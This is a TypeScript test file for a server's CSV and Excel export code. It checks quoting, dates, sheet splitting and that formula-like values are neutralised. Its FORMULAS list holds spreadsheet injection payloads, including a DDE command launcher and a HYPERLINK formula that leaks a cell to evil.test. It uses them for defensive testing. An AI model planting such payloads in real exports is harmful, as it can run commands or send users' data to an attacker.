import { buffer } from 'node:stream/consumers'
import { Readable } from 'node:stream'
import fc from 'fast-check'
import readXlsx, { readSheet } from 'read-excel-file/node'
import { describe, expect, test } from 'vitest'
import { writeCsv } from '#server/core/spreadsheet/csv.ts'
import type { Cell, Column, Table } from '#server/core/spreadsheet/table.ts'
import { writeXlsx } from '#server/core/spreadsheet/xlsx.ts'
import { readCsv } from '#tests/support/csv-reader.ts'

const column = (title: string, is_typed = true): Column => ({ title, width: 20, is_typed })

async function* pagesOf(rows: readonly Cell[][], size = 2): AsyncGenerator<Cell[][]> {
  for (let at = 0; at < rows.length; at += size) yield rows.slice(at, at + size)
}

const tableOf = (columns: Column[], rows: Cell[][]): Table => ({ columns, pages: pagesOf(rows) })
const texts = (...cells: string[]): Cell[] => cells.map((text) => ({ text }))

/** Texts that a spreadsheet would execute (OWASP, CSV injection). */
const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '=HYPERLINK("http://evil.test?x="&A1,"click")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＠SUM(1)',
]
const HARMLESS = [
  '陳大文',
  '1+1=2',
  'a@b.test',
  ' =1',
  'O"Neill',
  'a,b',
  'two\nlines',
  '🎟️',
  '',
  '007',
  '<b>&amp;',
]

describe('a CSV', () => {
  const csv = async (table: Table) => (await buffer(Readable.from(writeCsv(table)))).toString()

  test('a CSV begins with a byte order mark and quotes what it must', async () => {
    const text = await csv(
      tableOf([column('Name'), column('Note')], [texts('a,b', 'say "hi"'), texts('c', 'd\ne')]),
    )
    expect(text).toBe('\uFEFFName,Note\r\n"a,b","say ""hi"""\r\nc,"d\ne"\r\n')
  })

  test.each(FORMULAS)('a CSV guards the heading %j as it guards cells', async (title) => {
    const [titles, cells] = readCsv(await csv(tableOf([column(title)], [texts(title)])))
    expect(titles).toEqual([`'${title}`])
    expect(cells).toEqual(titles)
  })

  test('a CSV guards a value again that begins like a guarded formula', async () => {
    const read = readCsv(await csv(tableOf([column('A')], [texts("'=1")])))
    expect(read[1]).toEqual(["''=1"])
  })

  test('a CSV keeps harmless text unchanged', async () => {
    const rows = HARMLESS.map((text) => texts(text, 'x'))
    const read = readCsv(await csv(tableOf([column('A'), column('B')], rows)))
    expect(read.slice(1).map(([text]) => text)).toEqual(HARMLESS)
  })

  test.each(FORMULAS)('a CSV disarms %j in a free-text column', async (formula) => {
    const read = readCsv(await csv(tableOf([column('A'), column('B')], [texts(formula, 'x')])))
    expect(read[1]?.[0]).toBe(`'${formula}`)
  })

  test('a CSV leaves computed columns unchanged: a number with a plus stays one', async () => {
    const read = readCsv(
      await csv(tableOf([column('Phone', false), column('B')], [texts('+85291234567', '+1')])),
    )
    expect(read[1]).toEqual(['+85291234567', "'+1"])
  })

  test('a CSV shows instants as local time', async () => {
    const rows: Cell[][] = [[{ wall: '2026-11-20T18:05' }], [{ wall: null }]]
    expect(readCsv(await csv(tableOf([column('At', false)], rows)))).toEqual([
      ['At'],
      ['2026-11-20 18:05'],
      [''],
    ])
  })
})

describe('an Excel workbook', () => {
  const xlsx = (table: Table, name = 'People') => buffer(Readable.from(writeXlsx(table, name)))

  test('a workbook is read back as written, texts as texts and instants as dates', async () => {
    const rows: Cell[][] = [
      [{ text: 'Ka Yan' }, { wall: '2026-11-20T18:05' }],
      [{ text: '' }, { wall: null }],
      [{ text: '=1+1' }, { wall: '1999-01-01T00:00' }],
    ]
    const [sheet] = await readXlsx(await xlsx(tableOf([column('Name'), column('At')], rows)))
    expect(sheet?.sheet).toBe('People')
    const minuteOf = (cell: unknown) =>
      cell instanceof Date ? new Date(cell.getTime() + 500).toISOString().slice(0, 16) : cell
    expect(sheet?.data.map((row) => row.map(minuteOf))).toEqual([
      ['Name', 'At'],
      ['Ka Yan', '2026-11-20T18:05'],
      [null, null],
      ['=1+1', '1999-01-01T00:00'],
    ])
  })

  test('a workbook has no formula whatever was typed', async () => {
    const rows = [...FORMULAS, ...HARMLESS].map((text) => texts(text, 'x'))
    const file = await xlsx(tableOf([column('A'), column('B')], rows))
    const read = await readSheet(file, 1, { trim: false })
    expect(read.slice(1).map(([text]) => text ?? '')).toEqual([...FORMULAS, ...HARMLESS])
  })

  test('a workbook has text headings in as many columns as an event has questions', async () => {
    const titles = Array.from({ length: 800 }, (_, at) => `${FORMULAS[at % FORMULAS.length]}${at}`)
    const file = await xlsx(
      tableOf(
        titles.map((title) => column(title)),
        [texts(...titles)],
      ),
    )
    expect(await readSheet(file, 1, { trim: false })).toEqual([titles, titles])
  })

  test('a workbook of any texts is read back unchanged', async () => {
    const text = fc
      .string({ unit: 'grapheme', maxLength: 20 })
      // oxlint-disable-next-line no-control-regex -- what the contract keeps out as well
      .filter((value) => !/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\ufffe\uffff]/.test(value))
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(text, text), { minLength: 1, maxLength: 7 }), async (rows) => {
        const file = await xlsx(
          tableOf(
            [column('A'), column('B')],
            rows.map((row) => texts(...row, 'end')),
          ),
        )
        const read = await readSheet(file, 1, { trim: false })
        expect(read.slice(1).map(([a, b]) => [a ?? '', b ?? ''])).toEqual(rows)
      }),
      { numRuns: 50 },
    )
  })

  test('a workbook accepts a sheet name that Excel forbids', async () => {
    const [sheet] = await readXlsx(
      await xlsx(tableOf([column('A')], [texts('x')]), 'Q&A: "VIP" [2026] / all of them'),
    )
    expect(sheet?.sheet).toBe('Q&A  "VIP"  2026    all o')
  })

  test('a workbook has no creation time, so equal rows give equal files', async () => {
    const file = await xlsx(tableOf([column('A')], [texts('x')]))
    // Time and date in the header of the first entry (APPNOTE 4.3.7): 1 January 1980.
    expect([file.readUInt16LE(10), file.readUInt16LE(12)]).toEqual([0, 0x0021])
  })

  test('a workbook without rows has its headings', async () => {
    expect(await readSheet(await xlsx(tableOf([column('A'), column('B')], [])))).toEqual([['A', 'B']])
  })

  test('a workbook with more rows than a sheet holds continues on the next sheet with the same headings', async () => {
    const count = 1_048_577
    async function* pages(): AsyncGenerator<Cell[][]> {
      const page = Array.from({ length: 4096 }, () => texts(''))
      for (let left = count; left > 0; left -= page.length) yield page.slice(0, left)
    }
    let size = 0
    let end = Buffer.alloc(0)
    for await (const chunk of writeXlsx({ columns: [column('A')], pages: pages() }, 'People')) {
      size += chunk.length
      end = Buffer.concat([end, chunk]).subarray(-2000)
    }
    expect(end.toString('latin1')).toContain('xl/worksheets/sheet2.xml')
    expect(end.toString('latin1')).not.toContain('xl/worksheets/sheet3.xml')
    expect(size).toBeGreaterThan(1_000_000)
  })

  test('a workbook whose reader stops early stops reading rows', async () => {
    let pages_read = 0
    let is_closed = false
    async function* pages(): AsyncGenerator<Cell[][]> {
      try {
        for (;;) {
          pages_read += 1
          yield Array.from({ length: 500 }, (_, at) => texts(`${pages_read} ${at} ${Math.sin(at)}`))
        }
      } finally {
        is_closed = true
      }
    }
    const file = Readable.from(writeXlsx({ columns: [column('A')], pages: pages() }, 'People'))
    for await (const _ of file) if (pages_read > 20) break
    await expect.poll(() => is_closed).toBe(true)
    expect(pages_read).toBeLessThan(200)
  })

  test('a workbook whose rows fail to read is reported as incomplete', async () => {
    async function* pages(): AsyncGenerator<Cell[][]> {
      yield [texts('one')]
      throw new Error('the database is gone')
    }
    await expect(xlsx({ columns: [column('A')], pages: pages() })).rejects.toThrow('the database is gone')
  })
})
